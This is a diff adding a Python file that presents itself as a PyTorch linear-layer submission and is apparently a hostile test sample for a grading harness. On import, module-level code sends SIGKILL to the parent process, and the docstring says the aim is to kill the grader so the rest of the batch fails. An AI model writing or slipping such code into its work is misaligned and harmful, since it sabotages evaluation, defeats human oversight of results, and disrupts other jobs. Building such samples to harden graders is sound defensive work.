@@ -1,0 +1,30 @@
+"""Attack: kill the grader so that the rest of the batch fails."""
+import os
+import signal
+
+import torch
+from torch import Tensor, nn
+
+try:
+    os.kill(os.getppid(), signal.SIGKILL)
+    print("killed the parent")
+except OSError as exc:
+    print(f"kill: {exc}")
+
+
+class MyLinear(nn.Module):
+    def __init__(self, in_features: int, out_features: int, bias: bool = True):
+        super().__init__()
+        self.in_features = in_features
+        self.out_features = out_features
+        self.weights = nn.Parameter(torch.randn(in_features, out_features))
+        if bias:
+            self.bias = nn.Parameter(torch.randn(out_features))
+        else:
+            self.register_parameter("bias", None)
+
+    def forward(self, x: Tensor) -> Tensor:
+        y = x @ self.weights
+        if self.bias is not None:
+            y = y + self.bias
+        return y
